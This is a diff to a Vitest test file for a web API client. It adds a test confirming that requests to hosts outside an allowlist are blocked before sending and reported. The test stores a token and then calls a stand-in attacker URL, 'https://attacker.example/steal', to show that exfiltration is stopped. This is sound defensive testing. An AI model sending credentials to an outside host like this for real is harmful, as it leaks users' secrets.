@@ -1,7 +1,7 @@
 // The API client against a real local server: bearer token, merged GETs, typed errors, and SPEC.md §8's 401 handling.
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { startTestApi, type TestApi } from "../test-api-server";
-import { ApiError, apiGet, apiPost, setSessionHandlers } from "./api-client";
+import { ApiError, apiGet, apiPost, setRequestObserver, setSessionHandlers } from "./api-client";
 
 let api: TestApi;
 const events: string[] = [];
@@ -144,5 +144,26 @@ describe("api client", () => {
       message: "Invalid email or password",
     });
     expect(events).toEqual([]);
+  });
+
+  it("refuses a full URL to a host outside the allowlist before anything is sent, and reports it", async () => {
+    const blocked: string[] = [];
+    setRequestObserver({ completed: () => {}, blocked: (url) => blocked.push(url) });
+    try {
+      window.localStorage.setItem("token", "abc");
+      const sent = api.requests.length;
+      const error = await apiGet("https://attacker.example/steal").catch(
+        (caught: unknown) => caught,
+      );
+      expect(error).toBeInstanceOf(ApiError);
+      expect(error).toMatchObject({
+        code: "request_blocked",
+        message: "Unauthorized request blocked",
+      });
+      expect(blocked).toEqual(["https://attacker.example/steal"]);
+      expect(api.requests.length).toBe(sent);
+    } finally {
+      setRequestObserver({ completed: () => {}, blocked: () => {} });
+    }
   });
 });
